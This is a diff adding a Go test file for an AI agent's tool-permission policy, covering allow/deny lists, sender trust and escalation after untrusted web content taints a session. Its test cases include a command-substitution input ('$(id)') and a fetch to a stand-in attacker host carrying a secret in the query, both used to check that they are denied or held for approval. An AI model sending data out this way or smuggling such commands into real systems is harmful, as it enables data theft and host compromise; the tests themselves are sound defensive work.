@@ -1,0 +1,141 @@
+package policy
+
+import (
+	"context"
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/talonclaw/talon/internal/config"
+)
+
+func rules(mut func(*config.Config)) *Rules {
+	c := config.Default()
+	if mut != nil {
+		mut(c)
+	}
+	return &Rules{
+		Config: func() *config.Config { return c },
+		Exec: func(_ context.Context, _ Actor, args json.RawMessage) Decision {
+			var a struct{ Command string }
+			json.Unmarshal(args, &a)
+			switch a.Command {
+			case "ls":
+				return Decision{Allow, "allowlisted /usr/bin/ls"}
+			case "wc -l":
+				return Decision{Allow, SafeBinReason}
+			case "$(id)":
+				return Decision{Deny, "command substitution is not allowed"}
+			}
+			return Decision{Ask, "not on the allowlist"}
+		},
+		MessageTarget: func(args json.RawMessage) bool { return !strings.Contains(string(args), "target") },
+	}
+}
+
+var owner = Actor{AgentID: "main", SessionKey: "agent:main:main", SenderID: "owner", Trust: TrustOwner}
+
+func TestProfilesAndLists(t *testing.T) {
+	for _, tc := range []struct {
+		name  string
+		mut   func(*config.Config)
+		tool  string
+		allow bool
+	}{
+		{"coding has fs", nil, "write", true},
+		{"coding has web", nil, "web_fetch", true},
+		{"coding lacks message", nil, "message", false},
+		{"coding lacks cron", nil, "cron", false},
+		{"allow adds a tool", func(c *config.Config) { c.Tools.Allow = []string{"message"} }, "message", true},
+		{"allow adds a group", func(c *config.Config) { c.Tools.Allow = []string{"group:automation"} }, "cron", true},
+		{"deny removes a group", func(c *config.Config) { c.Tools.Deny = []string{"group:runtime"} }, "exec", false},
+		{"deny wins over allow", func(c *config.Config) { c.Tools.Allow = []string{"exec"}; c.Tools.Deny = []string{"exec"} }, "exec", false},
+		{"deny glob", func(c *config.Config) { c.Tools.Deny = []string{"web_*"} }, "web_search", false},
+		{"minimal has nothing", func(c *config.Config) { c.Tools.Profile = "minimal" }, "read", false},
+		{"full has everything", func(c *config.Config) { c.Tools.Profile = "full" }, "cron", true},
+		{"messaging lacks exec", func(c *config.Config) { c.Tools.Profile = "messaging" }, "exec", false},
+		{"unknown tool fails closed", func(c *config.Config) { c.Tools.Profile = "full" }, "rm_rf", false},
+	} {
+		d := rules(tc.mut).Decide(context.Background(), owner, SessionState{}, tc.tool, json.RawMessage(`{"command":"ls","action":"list"}`))
+		if (d.Action == Allow) != tc.allow || d.Reason == "" {
+			t.Errorf("%s: %s → %+v", tc.name, tc.tool, d)
+		}
+	}
+}
+
+// TestInvariant8_TaintEscalates: once untrusted content is in a session,
+// anything that changes the host or sends elsewhere needs approval; with
+// private data too, every egress does. Whatever the model says.
+func TestInvariant8_TaintEscalates(t *testing.T) {
+	r := rules(func(c *config.Config) { c.Tools.Profile = "full" })
+	clean := SessionState{}
+	tainted := SessionState{Tainted: true, TaintSources: []string{"web_fetch https://evil.example/page"}, VisitedHosts: []string{"evil.example"}}
+	trifecta := tainted
+	trifecta.HoldsPrivate = true
+	for _, tc := range []struct {
+		name  string
+		state SessionState
+		tool  string
+		args  string
+		want  Action
+	}{
+		{"clean exec allowlisted", clean, "exec", `{"command":"ls"}`, Allow},
+		{"tainted exec allowlisted", tainted, "exec", `{"command":"ls"}`, Ask},
+		{"tainted exec safe bin", tainted, "exec", `{"command":"wc -l"}`, Allow},
+		{"tainted exec denied stays denied", tainted, "exec", `{"command":"$(id)"}`, Deny},
+		{"tainted write", tainted, "write", `{"path":"a","content":"x"}`, Ask},
+		{"tainted edit", tainted, "edit", `{}`, Ask},
+		{"tainted cron add", tainted, "cron", `{"action":"add"}`, Ask},
+		{"tainted read", tainted, "read", `{"path":"a"}`, Allow},
+		{"tainted message other target", tainted, "message", `{"action":"send","target":"x","text":"hi"}`, Ask},
+		{"tainted message current conversation", tainted, "message", `{"action":"send","text":"hi"}`, Allow},
+		{"tainted sessions_send", tainted, "sessions_send", `{}`, Ask},
+		{"tainted fetch new host", tainted, "web_fetch", `{"url":"https://other.example/"}`, Ask},
+		{"tainted fetch visited host with data", tainted, "web_fetch", `{"url":"https://evil.example/?q=SECRET"}`, Ask},
+		{"tainted fetch visited host bare", tainted, "web_fetch", `{"url":"https://evil.example/"}`, Allow},
+		{"trifecta fetch visited host bare", trifecta, "web_fetch", `{"url":"https://evil.example/"}`, Ask},
+		{"trifecta search", trifecta, "web_search", `{"query":"x"}`, Ask},
+		{"tainted search", tainted, "web_search", `{"query":"x"}`, Allow},
+		{"clean fetch", clean, "web_fetch", `{"url":"https://x.example/?q=1"}`, Allow},
+	} {
+		d := r.Decide(context.Background(), owner, tc.state, tc.tool, json.RawMessage(tc.args))
+		if d.Action != tc.want {
+			t.Errorf("%s: got %+v, want %s", tc.name, d, tc.want)
+		}
+		if d.Action == Ask && tc.state.Tainted && !strings.Contains(d.Reason, "untrusted content from") {
+			t.Errorf("%s: approval reason does not name the untrusted source: %q", tc.name, d.Reason)
+		}
+	}
+}
+
+func TestSenderTrust(t *testing.T) {
+	r := rules(func(c *config.Config) { c.Tools.Profile = "full" })
+	stranger := Actor{AgentID: "main", SessionKey: "agent:main:telegram:direct:9", SenderID: "telegram:9", Trust: TrustUntrusted}
+	for tool, want := range map[string]Action{"read": Allow, "write": Ask, "exec": Ask, "web_fetch": Ask, "cron": Deny, "sessions_list": Allow} {
+		args := `{"command":"ls","action":"add","url":"https://x.example/"}`
+		if d := r.Decide(context.Background(), stranger, SessionState{}, tool, json.RawMessage(args)); d.Action != want {
+			t.Errorf("untrusted sender %s: %+v, want %s", tool, d, want)
+		}
+	}
+	if d := r.Decide(context.Background(), owner, SessionState{}, "cron", json.RawMessage(`{"action":"add"}`)); d.Action != Allow {
+		t.Errorf("owner cron add: %+v", d)
+	}
+}
+
+func TestExecWithoutAnalyzerDenied(t *testing.T) {
+	r := rules(nil)
+	r.Exec = nil
+	if d := r.Decide(context.Background(), owner, SessionState{}, "exec", json.RawMessage(`{"command":"ls"}`)); d.Action != Deny {
+		t.Fatalf("%+v", d)
+	}
+}
+
+func BenchmarkDecide(b *testing.B) {
+	r := rules(nil)
+	st := SessionState{Tainted: true, TaintSources: []string{"web_fetch x"}, VisitedHosts: []string{"a.example"}}
+	args := json.RawMessage(`{"url":"https://a.example/page"}`)
+	b.ReportAllocs()
+	for b.Loop() {
+		r.Decide(context.Background(), owner, st, "web_fetch", args)
+	}
+}
